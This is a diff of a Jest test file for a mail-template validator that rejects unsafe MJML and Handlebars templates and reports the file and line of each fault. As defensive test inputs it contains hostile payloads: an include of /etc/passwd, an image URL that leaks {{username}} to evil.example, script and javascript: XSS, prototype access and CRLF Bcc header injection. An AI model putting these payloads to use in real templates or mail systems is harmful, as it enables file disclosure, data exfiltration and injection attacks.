@@ -1,3 +1,11 @@
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { definePlugin, type PluginManifest } from '@roost/plugin-kit';
+import { jest } from '@jest/globals';
+import { MjmlThread } from '../src/templates/mjml-thread.js';
+import { TemplateCheck } from '../src/templates/template-check.js';
 import { TemplateRenderer } from '../src/templates/template-renderer.js';
 import { TemplateSources } from '../src/templates/template-sources.js';
 import { createTestApp, mailTo, type SignedInClient, type TestApp } from '@roost/testing';
@@ -107,14 +115,42 @@ describe('Mail templates', () => {
       ['data that is not there', { body: '<mj-text>{{nobody}}</mj-text>' }],
       ['a prototype', { body: '<mj-text>{{username.constructor.constructor}}</mj-text>' }],
       ['a partial', { body: '<mj-text>{{> secret}}</mj-text>' }],
+      ['a file', { body: '<mj-include path="/etc/passwd" /><mj-text>x</mj-text>' }],
+      ['a code for somebody else', { body: '<mj-image src="https://evil.example/{{username}}" />' }],
+      ['a script', { body: '<mj-raw><script>alert(1)</script></mj-raw>' }],
     ])('refuses %s', async (_what, draft) => {
       const { status, body } = await preview(draft);
       expect([status, body.code]).toEqual([400, 'mail.invalid_template']);
     });
 
-    it('includes no file', async () => {
-      const { bytes } = await preview({ body: '<mj-include path="/etc/passwd" /><mj-text>x</mj-text>' });
-      expect(bytes.toString()).not.toContain('root:');
+    it('tells part and line of each fault', async () => {
+      const { body } = await preview({
+        subject: '{{nobody}}',
+        body: '<mj-text>x</mj-text>\n<mj-text>{{nobody}}</mj-text>',
+      });
+      expect(body.errors).toMatchObject([
+        { pointer: '/subject', detail: 'subject: "nobody" is not in the sample data' },
+        { pointer: '/body', detail: 'body, line 2: "nobody" is not in the sample data' },
+      ]);
+    });
+
+    it('counts lines as the template does where MJML finds the fault', async () => {
+      const { body } = await preview({ body: '<mj-text>x</mj-text>\n<mj-text colour="red">y</mj-text>' });
+      expect(body.detail).toBe('body, line 2: <mj-text>: Attribute colour is illegal');
+    });
+
+    it('finds what MJML itself would load from elsewhere', async () => {
+      const body =
+        '<mj-social><mj-social-element name="github" href="https://github.com">x</mj-social-element></mj-social>';
+      expect((await preview({ body })).body).toMatchObject({
+        code: 'mail.invalid_template',
+        detail: expect.stringContaining('mails load nothing from elsewhere') as string,
+      });
+    });
+
+    it('follows no link of data that is a script', async () => {
+      const draft = { body: '<mj-text><a href="{{url}}">x</a></mj-text>', data: { url: 'javascript:alert(1)' } };
+      expect((await preview(draft)).body.code).toBe('mail.invalid_template');
     });
   });
 
@@ -141,9 +177,122 @@ describe('Mail templates', () => {
     it('keep nothing that could not be sent', async () => {
       const bad = { locale: 'en', subject: 'x', body: '<mj-text>{{nobody}}</mj-text>' };
       expect((await admin.put('/mail/templates/auth.welcome', bad)).body.code).toBe('mail.invalid_template');
+      const foreign = { ...bad, body: '<mj-image src="https://evil.example/{{username}}" />' };
+      expect((await admin.put('/mail/templates/auth.welcome', foreign)).body.code).toBe('mail.invalid_template');
       const lines = { locale: 'en', subject: 'x\r\nBcc: y@example.org', body: '<mj-text>x</mj-text>' };
       expect((await admin.put('/mail/templates/auth.welcome', lines)).status).toBe(400);
       expect((await admin.get<TemplateText>('/mail/templates/auth.welcome')).data.overridden).toBe(false);
     });
+
+    it('gives way to the plugin’s text when the project’s, kept before there was a rule, breaks it', async () => {
+      const [{ project_id: projectId } = { project_id: '' }] = await app
+        .em()
+        .execute<{ project_id: string }[]>('select project_id from users_user limit 1');
+      await app
+        .em()
+        .execute(
+          `insert into mail_template (project_id, name, locale, subject, body) values (?, 'auth.welcome', 'en', 'Own', ?)`,
+          [projectId, '<mj-image src="https://evil.example/{{username}}" />'],
+        );
+      const { account } = await app.client.signUp();
+      expect((await mailTo(app.client, account.email, /./)).subject).toBe('Welcome to Roost');
+      await admin.delete('/mail/templates/auth.welcome?locale=en');
+    });
+  });
+});
+
+describe('A start with mail templates', () => {
+  const GOOD = { 'thanks.en.mjml': 'Thanks\n<mj-text>Hello {{name}}</mj-text>\n', 'thanks.json': '{ "name": "Ada" }' };
+  let folder: string;
+  let plugin: PluginManifest;
+  let app: TestApp;
+  let check: TemplateCheck;
+
+  const write = async (files: Record<string, string>): Promise<void> => {
+    await rm(folder, { recursive: true, force: true });
+    await mkdir(folder);
+    for (const [name, content] of Object.entries({ ...GOOD, ...files })) await writeFile(join(folder, name), content);
+  };
+
+  beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'roost-templates-'));
+    await write({});
+    const templates = pathToFileURL(`${folder}/`);
+    plugin = definePlugin({ name: 'probe', version: '1.0.0', compat: '^1.0.0', templates });
+    app = await createTestApp({ plugins: [plugin] });
+    check = app.api.get(TemplateCheck, { strict: false });
+  });
+  afterAll(async () => {
+    await app.close();
+    await rm(folder, { recursive: true, force: true });
+  });
+
+  it('compiles nothing again that was found right before, and what is new', async () => {
+    const compile = jest.spyOn(app.api.get(MjmlThread, { strict: false }), 'compile');
+    expect(await check.run()).toMatchObject({ compiled: 0 });
+    await write({ 'thanks.json': '{ "name": "Grace" }' });
+    expect(await check.run()).toMatchObject({ compiled: 1 });
+    expect(compile).not.toHaveBeenCalled();
+    await write({ 'thanks.en.mjml': 'Thanks\n<mj-text>Dear {{name}}</mj-text>\n' });
+    expect(await check.run()).toMatchObject({ compiled: 1 });
+    expect(compile).toHaveBeenCalledTimes(1);
+  });
+
+  it.each<[string, Record<string, string>, string]>([
+    [
+      'a wrong attribute',
+      { 'thanks.en.mjml': 'Thanks\n<mj-text colour="red">x</mj-text>' },
+      'thanks.en.mjml, line 2: <mj-text>: Attribute colour is illegal',
+    ],
+    [
+      'an unknown variable',
+      { 'thanks.en.mjml': 'Thanks\n\n<mj-text>x</mj-text>\n<mj-text>{{nobody}}</mj-text>' },
+      'thanks.en.mjml, line 4: "nobody" is not in the sample data',
+    ],
+    [
+      'a wrong expression',
+      { 'thanks.en.mjml': 'Thanks {{#if}}\n<mj-text>x</mj-text>' },
+      'thanks.en.mjml, line 1: handlebars',
+    ],
+    [
+      'a wrong expression in one language',
+      { 'thanks.sv.mjml': 'Tack\n<mj-text>{{#if name}}</mj-text>' },
+      'thanks.sv.mjml, line',
+    ],
+    [
+      'no subject',
+      { 'thanks.en.mjml': '<mj-text>x</mj-text>' },
+      'thanks.en.mjml, line 1: the first line is the subject, and this is markup',
+    ],
+    ['no sample', { 'other.en.mjml': 'Other\n<mj-text>x</mj-text>' }, 'the mail template other has no sample data'],
+    ['a sample that is none', { 'thanks.json': '[]' }, 'thanks.json is not a JSON object'],
+    ['a sample that is no JSON', { 'thanks.json': '{' }, 'thanks.json is not JSON'],
+    [
+      'no text in English',
+      { 'other.sv.mjml': 'Annat\n<mj-text>x</mj-text>', 'other.json': '{}' },
+      'other.en.mjml is missing',
+    ],
+    ['a name that is none', { 'thanks.english.mjml': 'x' }, 'thanks.english.mjml is not named <name>.<locale>.mjml'],
+    [
+      'a picture elsewhere',
+      { 'thanks.en.mjml': 'Thanks\n<mj-image src="https://evil.example/x" />' },
+      'thanks.en.mjml, line 2: src of <mj-image>: mails load nothing',
+    ],
+  ])('refuses %s, naming plugin, file and line', async (_what, files, fault) => {
+    await write(files);
+    const start = check.run();
+    const message = expect.stringMatching(/^Plugin probe: /) as string;
+    await expect(start).rejects.toMatchObject({ name: 'StartupError', message });
+    await expect(start).rejects.toThrow(fault);
+  });
+
+  it('refuses a folder that is not there', async () => {
+    await rm(folder, { recursive: true, force: true });
+    await expect(check.run()).rejects.toThrow('Plugin probe: its folder of mail templates cannot be read');
+  });
+
+  it('is refused as a whole', async () => {
+    await write({ 'thanks.en.mjml': 'Thanks\n<mj-text>{{nobody}}</mj-text>' });
+    await expect(createTestApp({ plugins: [plugin] })).rejects.toThrow('Plugin probe: the mail template');
   });
 });
